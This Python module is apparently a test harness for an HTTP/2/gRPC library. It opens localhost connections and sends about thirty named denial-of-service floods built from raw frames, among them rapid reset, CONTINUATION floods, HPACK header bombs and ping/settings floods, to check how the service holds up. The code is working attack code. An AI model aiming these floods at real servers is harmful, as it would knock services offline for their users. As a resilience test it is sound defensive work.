"""A hostile peer: raw HTTP/2 frames as fast as a service reads them.

`python -m support.http2_attacks PORT ATTACK CONNECTIONS` attacks until it is ended. A connection
that the service closes is opened again.
"""

import random
import select
import socket
import sys
from collections.abc import Callable
from typing import NamedTuple

from rockoon_core.http2 import frames
from rockoon_core.http2.headers import block, literal
from rockoon_core.http2.messages import PREFIX
from support.raw_http2 import CALL

PATH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
STREAMS = 20_000
CHUNK_BYTES = 256 << 10


def head(stream_id: int, path: str = PATH, more: bytes = b"", *, ends: bool = False) -> bytes:
    """Headers of a call."""
    headers = [(name, path if name == ":path" else value) for name, value in CALL]
    flags = frames.END_HEADERS | (frames.END_STREAM if ends else 0)
    return frames.frame(frames.HEADERS, flags, stream_id, block(headers) + more)


def request(stream_id: int, message: bytes = b"") -> bytes:
    """The request of a call, which ends its stream."""
    body = PREFIX.pack(0, len(message)) + message
    return frames.frame(frames.DATA, frames.END_STREAM, stream_id, body)


def each_stream(piece: Callable[[int], bytes], count: int = STREAMS) -> bytes:
    """Something on one stream after another."""
    return b"".join(piece(2 * number + 1) for number in range(count))


def repeated(frame: bytes) -> bytes:
    return frame * max(CHUNK_BYTES // len(frame), 1)


class Attack(NamedTuple):
    """What one connection sends.

    Args:
        once: behind the preface.
        again: repeated until the service ends the connection; None: when `once` is sent, the
            attacker ends its side, and opens a new connection when the service has ended its own.
        reads: whether the attacker reads answers.
    """

    once: Callable[[], bytes] = bytes
    again: Callable[[], bytes] | None = None
    reads: bool = True


def flood(frame: bytes, once: Callable[[], bytes] = bytes, *, reads: bool = True) -> Attack:
    return Attack(once, lambda: repeated(frame), reads)


def on_open_stream(frame: bytes) -> Attack:
    """A flood about stream 1, whose request never comes."""
    return flood(frame, lambda: head(1))


def settings_entries() -> bytes:
    entries = (frames.SETTING.pack(frames.INITIAL_WINDOW_SIZE, size) for size in range(2_700))
    return frames.frame(frames.SETTINGS, 0, 0, b"".join(entries))


def bomb() -> bytes:
    """Blocks of 400 bytes that name an entry of 4,000 bytes as often as a list may be long."""
    kept = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
    return head(1, more=kept) + each_stream(
        lambda stream_id: head(stream_id + 2, more=b"\xbe" * 15 + literal("n", str(stream_id)))
    )


def many_headers(stream_id: int) -> bytes:
    return head(stream_id, more=b"".join(literal("x", "y") for _ in range(300)))


def coded(stream_id: int) -> bytes:
    """A header whose value is Huffman-coded, nearly as long as a list may be."""
    # 16,000 times "0", a code of five bits.
    return head(stream_id, more=b"\0\x01x\xff\x91\x4d" + bytes(10_000))


def continued(pieces: int, length: int) -> Callable[[int], bytes]:
    """Calls whose headers are continued by empty frames, and have `pieces * length` bytes more."""
    headers = block(CALL) + literal("x", "y" * (pieces * length))

    def piece(stream_id: int) -> bytes:
        parts = [frames.frame(frames.HEADERS, 0, stream_id, headers)]
        parts += [frames.frame(frames.CONTINUATION, 0, stream_id)] * pieces
        parts.append(frames.frame(frames.CONTINUATION, frames.END_HEADERS, stream_id))
        return b"".join(parts)

    return piece


def table_sizes(count: int) -> Callable[[int], bytes]:
    headers = b"\x20\x3f\xe1\x1f" * count + block(CALL)
    return lambda stream_id: frames.frame(frames.HEADERS, frames.END_HEADERS, stream_id, headers)


RESET = frames.ErrorCode.CANCEL
UNMET = "/test.Nothing/Here"

ATTACKS: dict[str, Attack] = {
    "ping": flood(frames.frame(frames.PING, 0, 0, bytes(8))),
    "ping-unread": flood(frames.frame(frames.PING, 0, 0, bytes(8)), reads=False),
    "ping-answers": flood(frames.frame(frames.PING, frames.ACK, 0, bytes(8))),
    "settings": flood(frames.settings({frames.INITIAL_WINDOW_SIZE: 1 << 16})),
    "settings-answers": flood(frames.frame(frames.SETTINGS, frames.ACK, 0)),
    "settings-entries": Attack(lambda: each_stream(head), settings_entries),
    "priority": flood(frames.frame(frames.PRIORITY, 0, 1, bytes(5))),
    "window-update": flood(frames.window_update(0, 1)),
    "stream-window-update": on_open_stream(frames.window_update(1, 1)),
    "empty-data": on_open_stream(frames.frame(frames.DATA, 0, 1)),
    "one-byte-data": flood(frames.frame(frames.DATA, 0, 1, b"\0"), lambda: head(1, WATCH)),
    "padding": on_open_stream(frames.frame(frames.DATA, frames.PADDED, 1, b"\x03\0\0\0")),
    "unknown-frames": flood(frames.frame(0xEE, 0, 0)),
    "goaway": flood(frames.goaway(0, frames.ErrorCode.NO_ERROR)),
    "data-behind-end": flood(frames.frame(frames.DATA, 0, 1, b"x"), lambda: head(1) + request(1)),
    "resets-behind-end": flood(frames.rst_stream(1, RESET), lambda: head(1) + request(1)),
    "header-bomb": Attack(bomb),
    "many-headers": Attack(lambda: each_stream(many_headers, 2_000)),
    "coded-headers": Attack(lambda: each_stream(coded, 200)),
    "table-sizes": Attack(lambda: each_stream(table_sizes(2_000), 100)),
    "continuation-full": Attack(lambda: each_stream(continued(1, 12_000), 200)),
    "continuation-empty": Attack(lambda: each_stream(continued(60, 1), 2_000)),
    "no-request": Attack(lambda: each_stream(head)),
    "no-request-ended": Attack(lambda: each_stream(lambda number: head(number, ends=True))),
    "part-of-request": Attack(
        lambda: each_stream(lambda number: head(number) + frames.frame(0, 0, number, b"\0\0"))
    ),
    "rapid-reset": Attack(
        lambda: each_stream(
            lambda number: head(number) + request(number) + frames.rst_stream(number, RESET)
        )
    ),
    "reset-without-request": Attack(
        lambda: each_stream(lambda number: head(number) + frames.rst_stream(number, RESET))
    ),
    "made-you-reset": Attack(
        lambda: each_stream(
            lambda number: head(number) + request(number) + frames.window_update(number, 0)
        )
    ),
    "no-head": Attack(
        lambda: each_stream(lambda number: frames.frame(frames.HEADERS, 4, number, b"\x83"))
    ),
    "unknown-method": Attack(
        lambda: each_stream(lambda number: head(number, UNMET) + request(number))
    ),
    "streams": Attack(lambda: each_stream(lambda number: head(number, WATCH) + request(number))),
    "calls": Attack(lambda: each_stream(lambda number: head(number) + request(number))),
    "calls-unread": Attack(
        lambda: each_stream(lambda number: head(number) + request(number)), reads=False
    ),
    "calls-without-window": Attack(
        lambda: (
            frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
            + each_stream(lambda number: head(number) + request(number))
        )
    ),
    "noise": Attack(lambda: frames.PREFACE, lambda: random.Random(7).randbytes(CHUNK_BYTES)),
}


class Connection:
    """One connection of the attacker, opened again as often as the service closes it."""

    def __init__(self, port: int, attack: Attack, once: bytes, again: bytes) -> None:
        self._port = port
        self._attack = attack
        self._once = frames.PREFACE + frames.settings({}) + once
        self._again = again
        self.open()

    def open(self) -> None:
        self.socket = socket.create_connection(("127.0.0.1", self._port))
        self.socket.setblocking(False)
        self._left = memoryview(self._once)
        self.writes = True

    def reopen(self) -> None:
        self.socket.close()
        self.open()

    def step(self, *, may_read: bool, may_write: bool) -> None:
        """Read and write as much as the socket allows."""
        try:
            if may_read and not self.socket.recv(1 << 20):
                self.reopen()
                return
            if may_write:
                if not self._left:
                    if not self._again:
                        self.socket.shutdown(socket.SHUT_WR)
                        self.writes = False
                        return
                    self._left = memoryview(self._again)
                count = self.socket.send(self._left)
                self._left = self._left[count:]
        except BlockingIOError:
            return
        except OSError:
            self.reopen()

    @property
    def reads(self) -> bool:
        return self._attack.reads


def main(port: int, name: str, count: int) -> None:
    attack = ATTACKS[name]
    once, again = attack.once(), attack.again() if attack.again is not None else b""
    connections = [Connection(port, attack, once, again) for _ in range(count)]
    print("attacking", flush=True)
    while True:
        by_socket = {each.socket: each for each in connections}
        readers = [each.socket for each in connections if each.reads]
        writers = [each.socket for each in connections if each.writes]
        readable, writable, _ = select.select(readers, writers, [], 1.0)
        for each in {*readable, *writable}:
            by_socket[each].step(may_read=each in readable, may_write=each in writable)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
